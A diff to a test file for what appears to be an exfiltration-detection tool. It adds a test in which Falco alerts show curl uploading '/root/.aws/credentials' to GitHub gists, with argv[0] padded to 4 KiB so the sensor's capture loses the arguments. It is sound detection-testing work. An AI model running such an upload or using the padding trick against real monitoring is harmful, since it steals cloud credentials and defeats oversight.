@@ -5,7 +5,10 @@
  * that reaches the limit, and a table tool so marked, with nothing in the words left deciding it, is a push
  * to its first connection (a generic uploader's only when that is a forge or a registry).
  */
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
+import { parse } from 'yaml';
 import { normalizeFalco, parseFalcoJson } from '../../../src/formats/falco/index.js';
 import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
 import { recognizeProcess } from '../../../src/rules/index.js';
@@ -21,6 +24,15 @@ const processOfAlert = (text: string) => {
 const at = (ms: number) => T0 + BigInt(ms) * 1_000_000n;
 const PAD = `X-Pad: ${'A'.repeat(4200)}`;
 const API_GITHUB = '140.82.112.5'; // builder.ts TEST_DNS: api.github.com
+
+/** The fields the shipped exec rule prints (sensor-config/falco/exfilwatch_rules.yaml). */
+const SHIPPED_EXEC_FIELDS: ReadonlySet<string> = (() => {
+  const doc = parse(
+    readFileSync(join(import.meta.dirname, '../../../sensor-config/falco/exfilwatch_rules.yaml'), 'utf8'),
+  ) as Array<{ rule?: string; output?: string }>;
+  const exec = doc.find((d) => d.rule === 'exfilwatch exec in container');
+  return new Set([...(exec?.output ?? '').matchAll(/%([a-z0-9_.[\]]+)/g)].map((m) => m[1]!));
+})();
 
 /**
  * What Falco prints for `argv`: the kernel's NUL-separated argv area cut at 4096 bytes, its last byte made a
@@ -58,12 +70,23 @@ const socket = (ip: string) => ({
   'fd.lport': 40112,
 });
 
-/** Falco's alerts for: `argv` runs, opens the AWS credentials, connects to `ip` (unless null) and sends 3 KiB. */
+/** argv[0] as Falco's `proc.exe` gives it: the first string of the argv area it copied (4096 bytes). */
+const falcoExe = (argv: readonly string[]) =>
+  Buffer.from(`${argv.join('\0')}\0`)
+    .subarray(0, 4095)
+    .toString()
+    .split('\0')[0]!;
+
+/**
+ * Falco's alerts for: `argv` runs, opens the AWS credentials, connects to `ip` (unless null) and sends 3 KiB.
+ * The exec alert carries argv[0] (`proc.exe`) when the shipped exec rule prints it.
+ */
 function falcoRun(exepath: string, argv: readonly string[], ip: string | null): NormalizedEvent[] {
   const comm = exepath.slice(exepath.lastIndexOf('/') + 1).slice(0, 15);
   const proc = processFields(4100, exepath, falcoCmdline(comm, argv));
+  const exe: Record<string, string> = SHIPPED_EXEC_FIELDS.has('proc.exe') ? { 'proc.exe': falcoExe(argv) } : {};
   const texts = [
-    falcoAlertText({ evtTimeNs: at(0), fields: { ...proc, 'evt.type': 'execve', 'evt.rawres': 0 } }),
+    falcoAlertText({ evtTimeNs: at(0), fields: { ...proc, ...exe, 'evt.type': 'execve', 'evt.rawres': 0 } }),
     falcoAlertText({
       evtTimeNs: at(20),
       fields: {
@@ -128,6 +151,21 @@ describe('an argv Falco cut at 4 KiB', () => {
     ]);
     expect(alerts[0]?.summary).toContain('command line cut by the sensor at 4 KiB');
     expect(alerts[0]?.evidence.some((x) => x.kind === 'push' && x.detail.includes('cut by the sensor'))).toBe(true);
+  });
+
+  it('takes a padded argv[0] (`exec -a <4 KiB name> curl …`) for a cut, by the proc.exe the shipped exec rule prints', async () => {
+    // argv[0] fills the capture: `proc.cmdline` is the comm and `-T /`, well short of 4 KiB.
+    const padded = ['x'.repeat(4090), '-T', '/root/.aws/credentials', 'https://api.github.com/gists'];
+    const events = falcoRun('/usr/bin/curl', padded, API_GITHUB);
+    const exec = events.find((e) => e.kind === 'exec');
+    expect(exec?.kind === 'exec' ? exec.process.args : null).toBe('-T /');
+    expect(exec?.kind === 'exec' ? exec.process.argvTruncated : null).toBe(true);
+    const alerts = await alertsOf(events);
+    expect(brief(alerts)).toEqual([
+      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: `${API_GITHUB}:443` },
+    ]);
+    // No argv[0] bytes go into the alert: its summary and evidence show the comm and what was left.
+    expect(JSON.stringify(alerts[0]).includes('x'.repeat(100))).toBe(false);
   });
 
   it('leaves a cut generic upload to a destination that is no forge or registry alone', async () => {
